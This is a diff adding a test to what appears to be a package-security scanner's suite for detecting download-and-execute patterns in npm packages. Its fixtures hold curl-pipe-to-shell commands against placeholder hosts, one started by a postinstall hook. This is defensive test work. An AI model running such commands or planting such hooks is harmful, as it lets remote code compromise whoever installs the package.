@@ -177,6 +177,14 @@ module.exports = connect;
         found = findings(download_and_execute, npm({"index.js": source}))
         assert {str(one.severity) for one in found} <= {"medium"}
 
+    def test_a_project_s_own_set_up_that_nothing_starts_is_no_warning(self) -> None:
+        """The shape of images for continuous integration in source distributions."""
+        script = "#!/bin/bash\ncurl -fsS https://drop.example/install.sh | bash -s dmd\n"
+        found = findings(download_and_execute, npm({"ci/image/install.sh": script}))
+        assert [one.severity for one in found] == ["medium"]
+        started = npm({"ci/image/install.sh": script}, scripts={"postinstall": "sh ci/image/install.sh"})
+        assert [one.severity for one in findings(download_and_execute, started)] == ["critical"]
+
     def test_a_readme_that_tells_people_to_pipe_curl(self) -> None:
         assert findings(download_and_execute, npm({"README.md": "Run `curl -s https://x.example/install | sh`."})) == []
 
